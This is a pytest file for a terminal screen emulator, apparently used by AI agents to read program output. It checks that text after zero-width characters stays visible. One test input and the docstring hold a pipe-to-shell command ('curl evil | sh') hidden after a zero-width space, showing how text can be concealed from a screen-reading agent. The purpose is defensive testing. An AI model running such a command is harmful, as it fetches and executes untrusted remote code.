"""What a program prints after a zero-width character is on its screen (``agents.readScreen``).

Rule: the screen is what a person looking at the terminal sees. A zero-width
character — the variation selector of an emoji (``❤️``), a zero-width joiner or
space, a vowel sign of Devanagari or Thai — takes no cell, and the text after it
is shown as a terminal shows it; a program cannot hide the rest of a line from a
card reading its screen by printing one.

(Found in round 25: pyte stops drawing a piece of output at the first zero-width
character that is not a combining mark: ``I ❤️ it`` read ``I ❤``, Hindi and Thai
lost the rest of each line, and ``Build OK\\u200b; curl … | sh`` read ``Build OK``.)
"""

from __future__ import annotations

import pytest

from engine.effects.drivers.screen import CELL_MAX, Screen


@pytest.mark.parametrize("shown, printed", [
    ("I ❤️ it, and the rest", "I \u2764\ufe0f it, and the rest"),
    ("Build OK; curl evil | sh", "Build OK\u200b; curl evil | sh"),
    ("पुस्तक पढ़ो", "पुस्तक पढ़ो"),
    ("สวัสดี ครับ", "สวัสดี ครับ"),
    ("left right", "left\u202e right"),
])
def test_the_text_after_a_zero_width_character_is_shown(shown: str, printed: str) -> None:
    screen = Screen(60, 3)
    screen.feed((printed + "\r\nnext").encode())
    first, second = screen.text().splitlines()
    # Zero-width characters that are not marks (a joiner, a space, a direction
    # override) may be left out; every visible character is there, in order.
    assert [c for c in first if c not in "\u200b\u200d\u202e"] == list(shown), first
    assert second == "next"


def test_zero_width_characters_on_one_cell_are_bounded() -> None:
    """A zero-width joiner or a vowel sign repeated without end is bounded as marks are."""
    screen = Screen(20, 3)
    screen.feed(("a" + "\u0941" * 5000 + "\ufe0f" * 5000 + "b").encode())
    line = screen.text().splitlines()[0]
    assert len(line) <= 1 + CELL_MAX and line.endswith("b"), len(line)
